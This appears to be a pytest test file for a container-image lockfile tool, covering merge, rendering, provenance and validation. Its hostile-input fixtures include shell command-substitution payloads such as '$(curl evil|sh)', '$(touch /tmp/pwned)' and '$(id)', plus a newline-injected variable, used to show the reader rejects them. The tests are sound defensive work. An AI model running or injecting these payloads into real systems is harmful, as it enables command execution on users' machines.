"""images.lock.json: merged per cell, round-tripped, rendered for other tools; an entry's
verification summary and provenance, read from a verification record."""

from __future__ import annotations

import json
import re
import shlex
import subprocess
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from imagekit.core.errors import InputError
from imagekit.k8s.manifests import job_manifest
from imagekit.k8s.options import JobOptions
from imagekit.report.lockfile import (
    NO_GPU_NOTE,
    IndexPlatform,
    LeftOut,
    Lock,
    LockIndex,
    as_document,
    merge_lock,
    provenance,
    read_lock,
    render_lock,
    verified_by,
)
from imagekit.report.verification import CheckRecord, Verification
from tests.conftest import run_cli
from tests.unit.report_samples import LOCK_DIGEST, lock_entry
from tests.unit.report_samples import lock_entry as entry
from tests.unit.strategies import json_values


def test_lock_merges_per_cell_and_round_trips(tmp_path: Path) -> None:
    path = tmp_path / "images.lock.json"
    merge_lock(path, {"a": entry("a")})
    merge_lock(path, {"b": entry("b", verified=False)})
    merge_lock(path, {"a": entry("a", digest="sha256:" + "00" * 32)})
    lock = read_lock(path)
    images = lock.images
    assert sorted(images) == ["a", "b"] and images["a"].digest.endswith("00" * 32)
    assert images["b"] == entry("b", verified=False) and images["a"].verification == entry().verification
    # each entry says which advisories its image carries, waived ones with the matrix's reason
    assert images["a"].advisories == entry().advisories and images["a"].advisories[0].waived
    document = json.loads(path.read_text())
    assert document["images"]["a"]["advisories"][0]["waived"] == "seed row: loads only trusted checkpoints"
    assert list(tmp_path.iterdir()) == [path]  # no temporary file left behind
    env = render_lock(lock, "env")
    assert "IMAGEKIT_IMAGE_A=ghcr.io/acme/pytorch@sha256:" in env
    assert yaml.safe_load(render_lock(lock, "yaml"))["images"]["b"]["verification"] is None
    with pytest.raises(InputError):
        render_lock(lock, "toml")
    path.write_text("{not json")
    with pytest.raises(InputError, match="not a readable lock file"):
        read_lock(path)


def test_a_lock_its_reader_would_refuse_is_never_written(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "images.lock.json"
    merge_lock(path, {"a": entry("a"), "b": entry("b")})
    kept = path.read_bytes()
    monkeypatch.setattr("imagekit.report.lockfile.MAX_RECORDS", 2)
    with pytest.raises(InputError, match=r"the lock would hold 3 images; a lock holds at most 2"):
        merge_lock(path, {"c": entry("c")})
    assert path.read_bytes() == kept


@pytest.mark.parametrize(
    "change",
    [
        {"repository": "ghcr.io/" + "a" * 300},  # past the reader's reference bound
        {"cell": "c-other"},  # the entry's cell is not its key
        {"expect": {"torch": "2.1 $(id)"}},  # an expectation the reader refuses
    ],
)
def test_a_lock_imagekit_writes_is_always_one_it_reads_back(
    tmp_path: Path, change: dict[str, object]
) -> None:
    path = tmp_path / "images.lock.json"
    merge_lock(path, {"a": entry("a")})
    kept = path.read_bytes()
    with pytest.raises(InputError, match=r"the lock would not read back .*; the previous lock is kept"):
        merge_lock(path, {"c": replace(entry("c"), **change)})  # type: ignore[arg-type]
    assert path.read_bytes() == kept


def test_provenance_round_trips_and_says_whether_the_digests_agree(tmp_path: Path) -> None:
    import json

    path = tmp_path / "images.lock.json"
    merge_lock(path, {"a": entry("a"), "b": entry("b", verified=False)})
    document = json.loads(path.read_text())
    provenance = document["images"]["a"]["provenance"]
    assert provenance["gpus"] == ["NVIDIA H200"] and provenance["driver"] == "560.35.03"
    assert provenance["cuda_driver"] == "12.6" and provenance["checks_passed"] == 12
    assert provenance["digest_chain"] == {
        "staged": entry().digest, "verified": entry().digest, "promoted": entry().digest, "equal": True
    }  # fmt: skip
    assert document["images"]["b"]["provenance"] is None
    assert read_lock(path).images["a"] == entry("a")
    # A lock written before provenance (or platforms, or indexes) existed still reads.
    del document["images"]["a"]["provenance"], document["images"]["a"]["platform"], document["indexes"]
    path.write_text(json.dumps(document))
    assert read_lock(path).images["a"].provenance is None
    assert read_lock(path).images["a"].platform == "linux/amd64"


# -- a hostile lock: its values go into shell lines and Kubernetes Jobs ------------------------------------


def _lock(tmp_path: Path, change: Callable[[dict[str, Any]], None]) -> Path:
    path = tmp_path / "images.lock.json"
    document = as_document(Lock({"torch2.1.2-cu121": entry()}))
    change(document["images"]["torch2.1.2-cu121"])
    path.write_text(json.dumps(document))
    return path


def _set(key: str, value: object) -> Callable[[dict[str, Any]], None]:
    return lambda data: data.__setitem__(key, value)


REPOSITORY = "images.torch2.1.2-cu121.repository: "
HOSTILE_ENTRIES: list[tuple[str, Callable[[dict[str, Any]], None], str]] = [
    ("repository command substitution", _set("repository", "ghcr.io/$(touch /tmp/pwned)"), REPOSITORY),
    ("repository newline forges a variable", _set("repository", "ghcr.io/a\nX=1"), "holds a newline"),
    (
        "repository elsewhere",
        _set("repository", "evil.example/acme/pytorch"),
        "is not on the entry's registry",
    ),
    ("digest not a digest", _set("digest", "sha256:$(id)"), ".digest: 'sha256:$(id)' holds '$('"),
    ("check script substitution", _set("check_script", "$(curl evil|sh)"), ".check_script: "),
    (
        "check script walks up",
        _set("check_script", "/opt/../../bin/sh"),
        "is not an absolute path in the image",
    ),
    ("expectation with a space", _set("expect", {"torch": "2.1.2 --require-gpu"}), ".expect.torch: "),
    ("unknown expectation", _set("expect", {"entrypoint": "sh"}), ".expect.entrypoint: "),
    ("registry port", _set("registry", "ghcr.io:99999"), ".registry: 'ghcr.io:99999': port 99999 is past"),
    ("policy unknown", _set("policy", "yolo"), ".policy: Input should be 'gpu-validated', 'checked' or"),
    ("tags a string", _set("tags", "latest"), ".tags: Input should be a valid array"),
    ("tag too long", _set("tags", ["t" * 200]), ".tags[0]: "),
    ("cell of another entry", _set("cell", "other"), ".cell: 'other' is another cell's id"),
    ("published_at a number", _set("published_at", 1700000000), ".published_at: Input should be a valid"),
    ("negative count", lambda d: d["verification"]["checks"].__setitem__("passed", -1), "checks.passed: "),
    (
        "a login as a metric's name",
        lambda d: d["verification"]["checks"].__setitem__("metrics", {"u:s3cret@h": 1}),
        "***@h: String should match pattern",  # the login masked, with the field path before it
    ),
]


@pytest.mark.parametrize(("case", "change", "problem"), HOSTILE_ENTRIES, ids=[c[0] for c in HOSTILE_ENTRIES])
def test_a_wrong_field_is_one_line_naming_file_and_field(
    tmp_path: Path, case: str, change: Callable[[dict[str, Any]], None], problem: str
) -> None:
    path = _lock(tmp_path, change)
    with pytest.raises(InputError) as caught:
        read_lock(path)
    assert caught.value.message.startswith(f"{path}: "), caught.value.message
    assert problem in caught.value.message and "\n" not in caught.value.message
    assert "s3cret" not in caught.value.message


def test_a_hostile_lock_makes_images_and_k8s_exit_2_and_run_nothing(tmp_path: Path) -> None:
    marker = tmp_path / "pwned"
    path = _lock(tmp_path, _set("repository", f"ghcr.io/x$(touch {marker})"))
    for args in (("images", "--format", "env", "--lock", str(path)), ("images", "--lock", str(path))):
        result = run_cli(*args)
        assert result.exit_code == 2 and result.stdout == "", result
        assert result.stderr.count("\n") == 1 and "images.torch2.1.2-cu121.repository" in result.stderr
    assert not marker.exists()


def test_env_lines_are_safe_to_eval(tmp_path: Path) -> None:
    """What the README tells users to do: eval "$(imagekit images --format env)"."""
    path = tmp_path / "images.lock.json"
    merge_lock(path, {"a.b-1": entry("a.b-1"), "c": entry("c", digest="sha256:" + "0" * 64)})
    result = run_cli("images", "--format", "env", "--lock", str(path))
    assert result.exit_code == 0, result.stderr
    shell = subprocess.run(
        [
            "bash",
            "-c",
            'eval "$1" && for v in ${!IMAGEKIT_IMAGE_@}; do echo "$v=${!v}"; done',
            "-",
            result.stdout,
        ],
        capture_output=True,
        text=True,
        check=True,
        timeout=30,
        env={"PATH": "/usr/bin:/bin"},
    )
    assert shell.stdout.splitlines() == [
        f"IMAGEKIT_IMAGE_A_B_1=ghcr.io/acme/pytorch@{LOCK_DIGEST}",
        f"IMAGEKIT_IMAGE_C=ghcr.io/acme/pytorch@sha256:{'0' * 64}",
    ]


def test_two_cells_of_one_variable_are_refused_in_env_lines() -> None:
    with pytest.raises(InputError, match=r"cell a-b and cell a\.b are one variable \(IMAGEKIT_IMAGE_A_B\)"):
        render_lock(Lock({"a-b": entry("a-b"), "a.b": entry("a.b")}), "env")


def test_images_only_matching_nothing_is_exit_2(tmp_path: Path) -> None:
    path = tmp_path / "images.lock.json"
    merge_lock(path, {"a": entry("a")})
    result = run_cli("images", "--only", "nothing*", "--lock", str(path))
    assert result.exit_code == 2 and result.stdout == ""
    assert (
        result.stderr == f"imagekit: error: --only nothing* matches no cell of {path}; see `imagekit plan`\n"
    )


JSON = json_values()
FIELDS = sorted(entry().as_json())


@settings(max_examples=400, deadline=2000, derandomize=True, suppress_health_check=[HealthCheck.too_slow])
@given(field=st.sampled_from(FIELDS), value=JSON)
def test_any_value_in_any_field_reads_or_is_one_input_error(
    tmp_path_factory: pytest.TempPathFactory, field: str, value: object
) -> None:
    path = _lock(tmp_path_factory.mktemp("lock"), _set(field, value))
    try:
        lock = read_lock(path)
    except InputError as exc:
        assert exc.message.startswith(f"{path}: ") and "\n" not in exc.message
    else:
        # accepted values are what the types promise: the shell and the Job stay safe
        for line in render_lock(lock, "env").splitlines():
            name, _, value_text = line.partition("=")
            assert re.fullmatch(r"IMAGEKIT_IMAGE_[A-Z0-9_]+", name)
            assert shlex.split(value_text) == [lock.images["torch2.1.2-cu121"].reference]
        job_manifest(lock.images["torch2.1.2-cu121"], JobOptions())


@settings(max_examples=200, deadline=2000, derandomize=True)
@given(JSON)
def test_any_json_document_reads_or_is_one_input_error(
    tmp_path_factory: pytest.TempPathFactory, data: object
) -> None:
    path = tmp_path_factory.mktemp("lock") / "images.lock.json"
    path.write_text(json.dumps(data))
    try:
        read_lock(path)
    except InputError as exc:
        assert exc.message.startswith(f"{path}: ")


def check(name: str, status: str, actual: object = None, detail: object = None) -> CheckRecord:
    def text(value: object) -> str | None:
        return None if value is None else value if isinstance(value, str) else json.dumps(value)

    return CheckRecord(name, status, True, actual=text(actual), detail=text(detail))


def test_provenance_reads_the_gpu_driver_and_cuda_driver_from_the_checks() -> None:
    verification = Verification(
        "c", "img", "all", "validated", True, True,
        (
            check("nvidia_smi", "pass", {"driver": "560.35.03", "gpus": [{"name": "NVIDIA H200"}] * 2},
                  {"header": {"driver": "560.35.03", "cuda": "12.6"}}),
            check("driver", "pass", "560.35.03", {"cuda": "12.1", "host_cuda": "12.6"}),
            check("gemm_gpu", "pass"),
            check("nccl", "skip"),
        ),
        1.0, image_digest=LOCK_DIGEST,
    )  # fmt: skip
    found = provenance(verification, LOCK_DIGEST, LOCK_DIGEST)
    assert found.gpus == ("NVIDIA H200", "NVIDIA H200") and found.driver == "560.35.03"
    assert found.cuda_driver == "12.6" and found.note is None
    assert (found.checks_passed, found.checks_total) == (3, 4) and found.digest_chain.equal
    # Without a GPU nothing is made up: the fields are null and the note says why.
    blind = replace(
        verification, gpu_visible=False, verdict="checked",
        checks=(check("nvidia_smi", "skip"), check("driver", "skip"), check("torch", "pass")),
    )  # fmt: skip
    found = provenance(blind, LOCK_DIGEST, LOCK_DIGEST)
    assert (found.gpus, found.driver, found.cuda_driver, found.note) == ((), None, None, NO_GPU_NOTE)
    # Pushed by publish from the engine, verified by image id: the chain says so.
    assert not provenance(replace(blind, image_digest=None), LOCK_DIGEST, LOCK_DIGEST).digest_chain.equal
    assert provenance(None, LOCK_DIGEST, LOCK_DIGEST).checks_total == 0


def test_the_lock_counts_failed_checks_as_the_verdict_does() -> None:
    """Any status but pass and skip is a failure (an edited report may say "error")."""
    verification = Verification(
        "c", "img", "none", "checked", False, False,
        (check("torch", "pass"), check("nccl", "skip"), check("gemm_cpu", "fail"),
         check("inventory", "error")),
        1.0,
    )  # fmt: skip
    summary = verified_by(verification)
    assert summary is not None
    checks = summary.checks
    assert (checks.passed, checks.failed, checks.skipped) == (1, 2, 1)
    assert checks.failed_names == ("gemm_cpu", "inventory")


# -- the lock: an index entry agrees with its platforms' entries ----------------------------------


ARM_DIGEST = "sha256:" + "7" * 64
INDEX_DIGEST = "sha256:" + "6" * 64


def index_lock(missing: bool = False) -> Lock:
    amd = lock_entry("c")
    arm = replace(lock_entry("c-arm64", digest=ARM_DIGEST), platform="linux/arm64")
    index = LockIndex(
        group="2.11.0-cuda13.0",
        registry="ghcr.io",
        repository="ghcr.io/acme/pytorch",
        digest=INDEX_DIGEST,
        tags=("2.11.0-cuda13.0", "2.11.0-cuda13.0-abcdef012345"),
        input_digest="d" * 64,
        policy="gpu-validated",
        level="validated",
        published_at="2026-12-01T00:00:00Z",
        platforms={"linux/amd64": IndexPlatform("c", amd.digest, "validated")}
        | ({} if missing else {"linux/arm64": IndexPlatform("c-arm64", ARM_DIGEST, "validated")}),
        missing={"linux/arm64": LeftOut("c-arm64", "its build failed")} if missing else {},
    )
    return Lock({"c": amd} | ({} if missing else {"c-arm64": arm}), {index.group: index})


def test_a_lock_with_an_index_round_trips(tmp_path: Path) -> None:
    path = tmp_path / "images.lock.json"
    lock = index_lock()
    merge_lock(path, lock.images, lock.indexes)
    assert read_lock(path) == lock
    document = json.loads(path.read_text())
    assert document["indexes"]["2.11.0-cuda13.0"]["reference"] == f"ghcr.io/acme/pytorch@{INDEX_DIGEST}"
    partial = index_lock(missing=True)
    merge_lock(path, partial.images, partial.indexes)
    # the platform left out is no longer published under the group: its entry goes with it
    assert read_lock(path) == partial
    # the cell published again alone: the index no longer says what its tag names
    merge_lock(path, {"c": lock_entry("c")})
    assert read_lock(path) == Lock({"c": lock_entry("c")})


def test_env_lines_name_each_index_beside_each_platform_image() -> None:
    """`images --format env`: a Pod or a pull on either machine names the index; each cell's own
    image stays for the tools that want one platform."""
    lines = render_lock(index_lock(), "env").splitlines()
    assert lines == [
        f"IMAGEKIT_IMAGE_C=ghcr.io/acme/pytorch@{lock_entry('c').digest}",
        f"IMAGEKIT_IMAGE_C_ARM64=ghcr.io/acme/pytorch@{ARM_DIGEST}",
        f"IMAGEKIT_INDEX_2_11_0_CUDA13_0=ghcr.io/acme/pytorch@{INDEX_DIGEST}",
    ]


def _index_doc(change: Callable[[dict[str, Any]], Any]) -> dict[str, Any]:
    document = as_document(index_lock())
    change(document)
    return document


GROUP = "2.11.0-cuda13.0"
HOSTILE_INDEXES: dict[str, tuple[Callable[[dict[str, Any]], Any], str]] = {
    "an index digest that is no digest": (
        lambda d: d["indexes"][GROUP].__setitem__("digest", "sha256:$(id)"),
        f"indexes.{GROUP}.digest: ",
    ),
    "a platform imagekit does not know": (
        lambda d: d["indexes"][GROUP]["platforms"].__setitem__(
            "linux/riscv64", {"cell": "c", "digest": ARM_DIGEST, "verdict": "validated"}
        ),
        f"indexes.{GROUP}.platforms.linux/riscv64",
    ),
    "a platform whose cell has no entry": (
        lambda d: d["images"].pop("c-arm64"),
        "cell c-arm64 has no image entry of that platform",
    ),
    "a platform digest the entry does not name": (
        lambda d: d["indexes"][GROUP]["platforms"]["linux/arm64"].__setitem__("digest", "sha256:" + "8" * 64),
        f"indexes.{GROUP}.platforms.linux/arm64: cell c-arm64",
    ),
    "an entry of another platform": (
        lambda d: d["images"]["c-arm64"].__setitem__("platform", "linux/amd64"),
        f"indexes.{GROUP}.platforms.linux/arm64",
    ),
    "a level above its platforms'": (
        lambda d: d["indexes"][GROUP]["platforms"]["linux/arm64"].__setitem__("verdict", "checked"),
        f"indexes.{GROUP}.platforms.linux/arm64",
    ),
    "a group key that is not its group": (
        lambda d: d["indexes"][GROUP].__setitem__("group", "other"),
        "is another group's tag",
    ),
    "an index elsewhere": (
        lambda d: d["indexes"][GROUP].__setitem__("repository", "evil.example/acme/pytorch"),
        "is not on the entry's registry",
    ),
    "a platform both in and left out": (
        lambda d: d["indexes"][GROUP]["missing"].__setitem__(
            "linux/arm64", {"cell": "c-arm64", "reason": "x"}
        ),
        "names a platform the index holds",
    ),
    "no platform": (lambda d: d["indexes"][GROUP].__setitem__("platforms", {}), "an index with no platform"),
    "a cell in two indexes": (
        lambda d: d["indexes"].__setitem__("other", {**d["indexes"][GROUP], "group": "other"}),
        "is a platform of",
    ),
    "a verdict that is no verdict": (
        lambda d: d["indexes"][GROUP]["platforms"]["linux/amd64"].__setitem__("verdict", "failed"),
        "verdict",
    ),
    "indexes a list": (lambda d: d.__setitem__("indexes", []), "indexes: "),
}


@pytest.mark.parametrize("case", list(HOSTILE_INDEXES))
def test_a_hostile_index_entry_is_one_line_naming_file_and_field(tmp_path: Path, case: str) -> None:
    change, problem = HOSTILE_INDEXES[case]
    path = tmp_path / "images.lock.json"
    path.write_text(json.dumps(_index_doc(change)))
    with pytest.raises(InputError) as caught:
        read_lock(path)
    message = caught.value.message
    assert message.startswith(f"{path}: ") and problem in message and "\n" not in message, message


def test_k8s_refuses_a_lock_entry_of_another_platform_than_the_matrix() -> None:
    from imagekit.report.lockfile import entries_for

    lock = index_lock()
    chosen = entries_for(lock, {"c": "linux/amd64"}, "acme/pytorch", Path("images.lock.json"))
    assert chosen.index_of("c") == lock.indexes[GROUP]
    with pytest.raises(InputError, match=r"images\.c-arm64\.platform: linux/arm64 is not the matrix's"):
        entries_for(lock, {"c-arm64": "linux/amd64"}, "acme/pytorch", Path("images.lock.json"))
